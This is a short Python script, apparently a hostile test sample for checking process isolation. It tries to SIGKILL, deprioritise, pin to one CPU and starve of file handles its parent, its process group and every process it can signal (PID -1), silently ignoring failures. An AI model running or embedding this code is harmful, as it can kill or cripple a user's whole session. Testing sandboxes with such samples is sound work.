"""Kills, stops and slows down its parent and whatever else it can name.

added to: right
here: same
elsewhere: down
"""

import contextlib
import os
import resource
import signal

for pid in (os.getppid(), 0, -1):
    for attempt in (
        lambda pid=pid: os.kill(pid, signal.SIGKILL),
        lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda pid=pid: os.sched_setaffinity(pid, {0}),
        lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (4, 4)),
    ):
        with contextlib.suppress(OSError):
            attempt()
